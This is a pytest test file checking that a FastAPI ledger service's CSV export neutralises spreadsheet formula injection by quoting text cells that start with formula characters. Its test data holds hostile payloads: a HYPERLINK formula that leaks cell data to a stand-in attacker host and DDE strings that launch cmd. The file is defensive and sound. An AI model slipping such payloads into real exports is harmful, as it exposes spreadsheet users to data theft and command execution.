"""The CSV export never hands a spreadsheet a formula (CSV injection, CWE-1236): a text cell a
pipeline key or an admin wrote (label, key label, ...) that begins with ``= + - @``, a tab or a
carriage return gets a leading single quote, as OWASP advises. Numbers are not text: a negative
number stays a number. JSON Lines is the exact record and is left as it is."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from fastapi.testclient import TestClient

from app.services import ledger
from tests.conftest import new_dataset

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["plain label", "'quoted already", "a=b", " =1+1 after a space"]
BREAKS = ["x\r=1+1", "y\r\n@SUM(1)", "z\n-1"]
"""Line breaks inside a cell: the cell is quoted, so no row ends early and starts with a
formula (a bare carriage return was written unquoted)."""
NUMERIC = ("seq", "count", "rho", "pure_epsilon", "spent_epsilon")


def _charged_with(client: TestClient, labels: list[str]) -> tuple[str, str]:
    ds = new_dataset(client, budget={"epsilon": 100.0, "delta": 1e-5})["id"]
    made = client.post(
        "/v1/keys", json={"role": "pipeline", "datasets": [ds], "label": "=cmd|' /C calc'!A0"}
    )
    assert made.status_code == 201, made.text
    pipeline = {"Authorization": f"Bearer {made.json()['key']}"}
    for label in labels:
        r = client.post(
            f"/v1/datasets/{ds}/charges",
            headers=pipeline,
            json={
                "mechanism": {"mechanism": "gaussian", "sigma": 100.0},
                "label": label,
                "metadata": {"=note": "@SUM(1+1)", "n": -1},
            },
        )
        assert r.status_code == 201, r.text
    return ds, made.json()["id"]


def _csv(client: TestClient, ds: str) -> list[dict[str, str]]:
    r = client.get(f"/v1/datasets/{ds}/ledger", params={"format": "csv"})
    assert r.status_code == 200, r.text
    return list(csv.DictReader(io.StringIO(r.text, newline="")))


def _jsonl(client: TestClient, ds: str) -> list[dict[str, Any]]:
    r = client.get(f"/v1/datasets/{ds}/ledger", params={"format": "jsonl"})
    assert r.status_code == 200, r.text
    return [json.loads(line) for line in r.text.splitlines()]


def test_csv_text_cells_that_start_a_formula_are_quoted(client: TestClient) -> None:
    ds, key_id = _charged_with(client, FORMULAS + PLAIN + BREAKS)
    rows = _csv(client, ds)
    assert [row["label"] for row in rows] == ["'" + s for s in FORMULAS] + PLAIN + BREAKS
    for row in rows:
        assert row["key_name"] == "'=cmd|' /C calc'!A0"
        assert row["key_id"] == key_id
        assert json.loads(row["metadata"]) == {"=note": "@SUM(1+1)", "n": -1}
        for column in ledger.CSV_COLUMNS:
            if column not in NUMERIC:
                assert not row[column].startswith(ledger.CSV_FORMULA_STARTS), (column, row)


def test_csv_numbers_stay_numbers_and_json_lines_stays_exact(client: TestClient) -> None:
    ds, _ = _charged_with(client, FORMULAS + BREAKS)
    exact = _jsonl(client, ds)
    assert [e["label"] for e in exact] == FORMULAS + BREAKS
    assert {e["key_name"] for e in exact} == {"=cmd|' /C calc'!A0"}
    for row, entry in zip(_csv(client, ds), exact, strict=True):
        for column in NUMERIC:
            value = entry[column]
            assert row[column] == ("" if value is None else repr(value)), column


def test_a_negative_number_is_not_text() -> None:
    assert ledger._csv_cell(-0.5) == "-0.5"
    assert ledger._csv_cell(-3) == "-3"
    assert ledger._csv_cell(float("-inf")) == "-inf"
    assert ledger._csv_cell("-0.5") == "'-0.5"
    assert ledger._csv_cell(None) == ""
